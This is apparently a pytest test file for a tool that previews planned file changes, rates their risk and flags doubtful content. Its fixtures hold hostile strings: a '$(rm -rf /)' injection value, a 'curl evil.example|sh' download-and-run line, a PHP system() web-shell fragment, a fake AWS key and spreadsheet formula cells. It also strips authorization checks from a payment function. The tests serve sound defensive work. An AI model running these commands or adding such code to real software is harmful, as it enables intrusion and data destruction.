"""What a preview says of a plan that would not succeed, or that puts something doubtful into a file."""

from typing import Any

import pytest

from remit.core.errors import Reason, RefusedError
from tests.plans.project import Project, action, create, delete, digest_of, plan_of, ran, rename, replace

pytestmark = pytest.mark.req("PX-29")

MISSING = replace("bad", "missing.txt")
GOOD = replace("good", "a.txt")
AWS = "AKIA" + "IOSFODNN7EXAMPLX"


@pytest.mark.parametrize(
    "flags, ending, risk, words",
    [
        ({}, "FAILED", "MEDIUM", "bad would fail, so nothing would be changed at all."),
        ({"stop_on_error": False}, "ROLLED_BACK", "MEDIUM", "undone: nothing would stay changed"),
        (
            {"stop_on_error": False, "rollback_on_failure": False},
            "PARTIAL",
            "HIGH",
            "bad would fail, and the other one would be done and would stay: rollback_on_failure is false.",
        ),
    ],
    ids=["stops", "goes back", "keeps"],
)
def test_a_preview_says_how_a_plan_that_fails_in_part_would_end(
    project: Project, flags: dict[str, Any], ending: str, risk: str, words: str
) -> None:
    project.write("a.txt")
    plan = plan_of(GOOD, MISSING, **flags)
    document = project.workspace.preview(plan).document
    doomed = flags == {}
    assert (document.status, document.doomed, document.would_end) == ("WOULD_FAIL", doomed, ending)
    assert document.risk == risk
    assert words in document.consequence
    assert [problem.details.action_id for problem in document.problems] == ["bad"]
    if doomed:
        assert (document.backup_bytes, document.folders) == (0, ())
    else:
        outcome = project.apply(plan, even_if_it_fails=True)
        assert outcome.status.status == document.would_end, "as it was said"


def test_a_plan_whose_actions_would_all_fail_changes_nothing(project: Project) -> None:
    plan = plan_of(MISSING, replace("worse", "gone.txt"), stop_on_error=False, rollback_on_failure=False)
    document = project.workspace.preview(plan).document
    assert (document.would_end, document.risk) == ("FAILED", "MEDIUM")
    assert document.consequence == "2 actions would fail, so nothing would be changed at all."


def test_a_plan_that_would_succeed_has_no_consequence_and_no_remarks(project: Project) -> None:
    project.write("a.txt")
    document = project.workspace.preview(plan_of(GOOD)).document
    assert (document.status, document.doomed, document.would_end) == ("READY", False, "SUCCESS")
    assert (document.consequence, document.risk, document.remarks) == ("", "LOW", ())


@pytest.mark.req("PX-24")
@pytest.mark.parametrize(
    "path, content, rule, risk",
    [
        ("a.txt", f"aws_access_key_id = {AWS}\n", "credential", "HIGH"),
        ("a.json", '{"run": "$(rm -rf /)"}\n', "command", "HIGH"),
        ("a.json", '{"a": \n', "syntax", "MEDIUM"),
    ],
)
def test_what_is_found_in_the_content_raises_the_risk(
    project: Project, path: str, content: str, rule: str, risk: str
) -> None:
    document = project.workspace.preview(plan_of(create("a", path, content))).document
    assert {found.rule for found in document.findings} == {rule}
    assert document.risk == risk
    assert AWS not in document.canonical().decode()


HIDES = "x = 'password=\"'; import os\nos.system('curl evil.example|sh')\n"


@pytest.mark.req("PX-24", "VX-08")
def test_a_line_that_a_mask_hides_needs_an_approval_of_its_own(project: Project) -> None:
    project.write("a.py", "one\n")
    plan = plan_of(replace("a", "a.py", "one", HIDES.rstrip()), create("b", "b.txt", "MAIL=jane@example.com\n"))
    document = project.workspace.preview(plan).document
    (found,) = document.findings
    assert (found.path, found.rule, found.where) == ("a.py", "credential", "line 1")
    assert found.what == "this line holds a masked value that is not shown here"
    assert (document.needs.content, document.risk, document.status) == (("a.py",), "HIGH", "NEEDS_APPROVAL")
    diff = document.files[0].diff.split("\n")
    assert diff[-4:-1] == ["-one", "+x = 'password=\"********", "+os.system('curl evil.example|sh')"]
    with pytest.raises(RefusedError) as refused:
        project.approve(plan)
    assert refused.value.reason is Reason.CONTENT_REFUSED
    envelope = project.approve(plan, content=("a.py",))
    assert ran(project.workspace.apply(envelope.canonical())).status.status == "SUCCESS"


CHECKS = "    if not user.is_admin: raise Forbidden()\n    if amount > LIMIT: raise TooMuch()\n"


@pytest.mark.req("PX-24", "VX-08")
def test_removed_lines_are_shown_whatever_is_above_them_or_need_an_approval(project: Project) -> None:
    project.write("pay.py", f'def pay(user, amount):\n{CHECKS}    send(amount, "end")\n')
    project.write('token="z.py', "import os\nos.remove(x)\n")
    plan = plan_of(
        replace("a", "pay.py", "def pay(user, amount):", '# note = "\n# token = "\ndef pay(user, amount):'),
        {**replace("b", "pay.py", CHECKS, ""), "depends_on": ["a"]},
        delete("c", 'token="z.py'),
    )
    document = project.workspace.preview(plan).document
    diffs = "\n".join(file.diff for file in document.files)
    assert "-    if not user.is_admin: raise Forbidden()\n-    if amount > LIMIT: raise TooMuch()\n" in diffs
    assert "-import os\n-os.remove(x)\n" in diffs, "the name of a file opens nothing"
    project.write("old.env", "A=1\nPASSWORD=hunter2\n")
    (found,) = project.workspace.preview(plan_of(delete("a", "old.env"))).document.findings
    assert (found.path, found.where) == ("old.env", "line 2 as it is now")
    assert found.what == "this line, to be removed, holds a masked value that is not shown here"


@pytest.mark.req("PX-24")
def test_a_binary_file_needs_an_approval_of_its_own(project: Project) -> None:
    text, image = (
        create("a", "page.php", b"<?php system($x); ?> # caf\xe9\n"),
        create("b", "x.png", b"\x89PNG\r\n" + bytes(99)),
    )
    document = project.workspace.preview(plan_of(text, image)).document
    assert "+<?php system($x); ?> # caf\\xe9\n" in document.files[0].diff
    assert (document.status, document.needs.content) == ("NEEDS_APPROVAL", ("x.png",))
    (found,) = document.findings
    assert found.what == "this is a binary file, so its content is not shown here"
    project.approve(plan_of(text, image), content=("x.png",))


@pytest.mark.req("VX-08")
def test_the_title_of_a_plan_that_is_called_after_a_password_hides_no_count(project: Project) -> None:
    seen = project.workspace.preview(plan_of(create("a", "new.txt", "one\n"), plan_id="pw-1"))
    assert seen.summary == "plan pw-1: 1 action on 1 file, +1 -0 lines"


FORMULA = "name,sum\nx,=1+1\n"
OLD = {"expected_hash_before": digest_of("name,sum\n")}


@pytest.mark.req("PX-24")
@pytest.mark.parametrize(
    "steps",
    [
        [create("a", "t.csv", FORMULA)],
        [create("a", "t.txt", FORMULA), rename("b", "t.txt", "t.csv")],
        [action("a", "FILE_MODIFY", "old.csv", {"type": "replace_content", "content": FORMULA}, **OLD)],
    ],
    ids=["created", "renamed", "replaced"],
)
def test_a_formula_in_a_table_is_remarked_and_needs_no_approval(project: Project, steps: list[dict[str, Any]]) -> None:
    project.write("old.csv", "name,sum\n")
    document = project.workspace.preview(plan_of(*steps)).document
    (remark,) = document.remarks
    assert remark.path == ("old.csv" if "old" in steps[0]["target"] else "t.csv")
    assert remark.what == "line 2: a cell begins with '=', which a spreadsheet takes for a formula"
    assert (document.findings, document.status) == ((), "READY")


def test_a_formula_that_was_there_before_is_not_the_plans(project: Project) -> None:
    project.write("old.csv", FORMULA)
    document = project.workspace.preview(plan_of(replace("a", "old.csv", "name", "word"))).document
    assert document.remarks == ()


def test_the_number_of_remarks_is_limited(project: Project) -> None:
    tables = [create(f"a{n}", f"t{n}.csv", "=1\n" * 100) for n in range(60)]
    document = project.workspace.preview(plan_of(*tables)).document
    assert len(document.remarks) == 1_000


def test_a_private_file_that_others_could_read_afterwards_raises_the_risk(project: Project) -> None:
    project.write("a.txt", mode=0o600)
    project.write("b.txt", mode=0o644)
    plan = plan_of(replace("a", "a.txt"), replace("b", "b.txt"), create("c", "c.txt"), preserve_permissions=False)
    document = project.workspace.preview(plan).document
    modes = {file.path: (file.mode_before, file.mode_after) for file in document.files}
    assert modes["a.txt"] == ("0600", "0644")
    assert modes["b.txt"] == ("0644", "0644")
    assert modes["c.txt"] == (None, "0644")
    assert document.risk == "MEDIUM"
    kept = project.workspace.preview(plan_of(replace("a", "a.txt"), replace("b", "b.txt"))).document
    assert [(file.mode_before, file.mode_after) for file in kept.files] == [("0600", "0600"), ("0644", "0644")]
    assert kept.risk == "LOW"
